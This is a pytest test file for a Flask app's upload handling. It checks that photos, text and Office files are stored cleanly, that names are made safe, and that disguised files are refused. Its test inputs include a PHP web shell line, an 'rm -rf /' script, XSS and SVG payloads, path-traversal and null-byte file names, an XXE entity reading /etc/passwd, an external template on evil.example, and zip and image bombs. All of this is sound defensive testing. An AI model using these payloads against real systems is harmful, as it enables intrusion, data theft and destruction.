"""What comes in is what it says it is, or it is refused whole."""

from __future__ import annotations

import hashlib
import io
import stat
import time

import pillow_heif
import pytest
from flask import Flask
from PIL import Image

from support.core import filetypes, vault
from support.core.config import Config
from support.core.db import transaction
from support.core.errors import (
    TooLarge,
    WrongType,
)
from support.core.file_serving import open_for_download
from support.core.files import (
    file_by_uid,
)
from tests.core.files.uploads import (
    ALICE,
    PDF,
    jpeg,
    kept,
    office,
    rows,
    take,
)


def test_a_photo_is_kept_clean_with_a_thumbnail_and_its_sizes(app: Flask, config: Config) -> None:
    row = take(jpeg(), "我的照片.JPG")
    assert (row.media_type, row.name, row.state) == ("image/jpeg", "我的照片.JPG", "clean")
    assert (row.width, row.height, row.thumbnail_width, row.thumbnail_height) == (
        800,
        600,
        480,
        360,
    )
    assert row.scanned_at is None, "no scanner was set, and the row says so"
    content = (config.instance_dir / "files" / row.uid[:2] / row.uid[2:4] / row.uid).read_bytes()
    assert b"SecretPhone" not in content
    assert (row.size, row.sha256) == (len(content), hashlib.sha256(content).digest())
    assert len(row.uid) == 32


def test_a_heic_from_a_phone_becomes_a_jpeg_that_opens_everywhere(app: Flask) -> None:
    out = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", (640, 480), "teal")).save(out)
    row = take(out.getvalue(), "IMG_0001.HEIC")
    assert (row.media_type, row.name) == ("image/jpeg", "IMG_0001.jpg")


@pytest.mark.parametrize(
    ("content", "name", "media_type"),
    [
        (PDF, "委托书.pdf", "application/pdf"),
        ("你好, world\n".encode(), "note.txt", "text/plain"),
        ("你好\n".encode("gb18030"), "note.txt", "text/plain"),
        ("你好\n".encode("utf-16"), "note.txt", "text/plain"),
        (b"a,b\n1,2\n", "links.csv", "text/csv"),
        (office(), "letter.docx", filetypes.DOCX.media_type),
        (office("xl/workbook.xml"), "list.xlsx", filetypes.XLSX.media_type),
    ],
)
def test_documents_are_kept_byte_for_byte(
    app: Flask, content: bytes, name: str, media_type: str
) -> None:
    row = take(content, name, length=len(content))
    assert (row.media_type, row.name, row.has_thumbnail) == (media_type, name, False)
    with open_for_download(row).stream as stream:
        assert stream.read() == content


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"<html><script>alert(1)</script>", "a.jpg"),
        (b"<?php system($_GET['c']);", "a.jpg"),
        (b"\x7fELF\x02\x01\x01" + bytes(60), "a.jpg"),
        (office(), "a.jpg"),
        (PDF, "a.jpg"),
        (jpeg(), "a.png"),
        (jpeg(), "a.php"),
        (jpeg(), "a.jpg\x00.php"),
        (jpeg(), "a.jpg\u200b.svg"),
        (jpeg(), "photo"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "a.svg"),
        (b"<svg onload='alert(1)'/>", "a.txt"),
        (b"\xef\xbb\xbf\n <!DOCTYPE html><p>", "a.txt"),
        ("<html><script>".encode("utf-16"), "a.csv"),
        (b"#!/bin/sh\nrm -rf /\n", "a.txt"),
        (b"MZ\x90\x00" + bytes(60), "a.txt"),
        (b"hello\x00world", "a.txt"),
        (b"order allow,deny", ".htaccess"),
        (b"order allow,deny", "\u200b.htaccess"),
        (PDF + office(), "polyglot.pdf"),
        (b"x" + PDF, "late.pdf"),
        (PDF[:20], "cut.pdf"),
        (b"hello " + office(), "polyglot.txt"),
        (office("other/thing.xml"), "archive.docx"),
        (office(), "archive.zip"),
        (office(more={"../../evil": b"x"}), "slip.docx"),
        (b"PK\x03\x04" + bytes(100), "broken.docx"),
    ],
)
def test_a_file_that_is_not_what_it_says_is_refused(
    app: Flask, config: Config, content: bytes, name: str
) -> None:
    with pytest.raises(WrongType):
        take(content, name)
    assert rows() == 0
    assert kept(config) == []


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("word/vbaProject.bin", b"x"),
        ("word/embeddings/oleObject1.bin", b"x"),
        (
            "word/_rels/settings.xml.rels",
            b'<Relationship Type="http://x/relationships/attachedTemplate" '
            b'Target="http://evil.example/t.dotm" TargetMode="External"/>',
        ),
        ("word/_rels/a.rels", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x/>'),
    ],
)
def test_office_documents_that_act_by_themselves_are_refused(
    app: Flask, name: str, body: bytes
) -> None:
    with pytest.raises(WrongType) as refused:
        take(office(more={name: body}), "letter.docx")
    assert refused.value.words == filetypes.OFFICE_ACTIVE


def test_an_office_document_may_hold_links_to_click(app: Flask) -> None:
    link = b'<Relationship Type="http://x/relationships/hyperlink" Target="http://a" TargetMode="External"/>'
    assert take(office(more={"word/_rels/document.xml.rels": link}), "letter.docx").state == "clean"


def test_an_office_bomb_is_refused_by_what_it_declares_within_100_ms(app: Flask) -> None:
    bomb = office(more={"word/media/a.bin": bytes(200 * 1024 * 1024)})
    assert len(bomb) < 250_000
    many = office(more={f"word/{number}.xml": b"" for number in range(2_100)})
    parts = office(more={f"word/{number}.xml": bytes(1024 * 1024) for number in range(110)})
    for content in (bomb, many, parts):
        begun = time.perf_counter()
        with pytest.raises(WrongType) as refused:
            take(content, "bomb.docx")
        assert time.perf_counter() - begun < 0.1
        assert refused.value.words == filetypes.OFFICE_TOO_BIG


def test_an_image_bomb_and_a_truncated_image_leave_nothing(app: Flask, config: Config) -> None:
    out = io.BytesIO()
    Image.new("1", (10_000, 10_000)).save(out, "PNG")
    with pytest.raises(TooLarge):
        take(out.getvalue(), "bomb.png")
    with pytest.raises(WrongType):
        take(jpeg()[:900], "cut.jpg")
    assert rows() == 0
    assert kept(config) == []


@pytest.mark.parametrize(
    ("declared", "shown"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("..\\..\\boot.txt", "boot.txt"),
        ("a\x00b.txt", "ab.txt"),
        ("．．／evil.txt", "evil.txt"),
        ("in\r\nSet-Cookie: a.txt", "inSet-Cookie_ a.txt"),
        ("\u202etxt.exe.txt", "txt.exe.txt"),
        ('say "hi".txt', "say _hi_.txt"),
        ("  身份证  正面.txt ", "身份证 正面.txt"),
        ("ｆｕｌｌ.txt", "full.txt"),
    ],
)
def test_names_are_made_safe_to_show(app: Flask, declared: str, shown: str) -> None:
    assert take(b"x", declared).name == shown


@pytest.mark.parametrize("declared", ["", "..", "/", "\u200b", "...", "///..//"])
def test_a_name_of_nothing_is_still_a_name(declared: str) -> None:
    assert filetypes.clean_name(declared) == "file"


def test_a_name_of_300_characters_keeps_its_extension(app: Flask) -> None:
    row = take(b"x", "长" * 300 + ".txt")
    assert len(row.name) == 200
    assert row.name.endswith("长.txt")


def test_the_name_never_touches_the_disk_and_is_sealed_in_the_row(
    app: Flask, config: Config
) -> None:
    row = take(b"x", "Zhang San passport.txt")
    assert "Zhang" not in "".join(str(path) for path in kept(config))
    assert b"Zhang" not in row.name_sealed
    with transaction():
        vault.destroy(ALICE)
    with pytest.raises(vault.KeyDestroyed):
        _ = file_by_uid(row.uid).name


def test_files_and_directories_are_private(app: Flask, config: Config) -> None:
    take(jpeg(), "a.jpg")
    root = config.instance_dir / "files"
    for path in (root / "incoming", *root.rglob("*")):
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode == (0o700 if path.is_dir() else 0o600), path
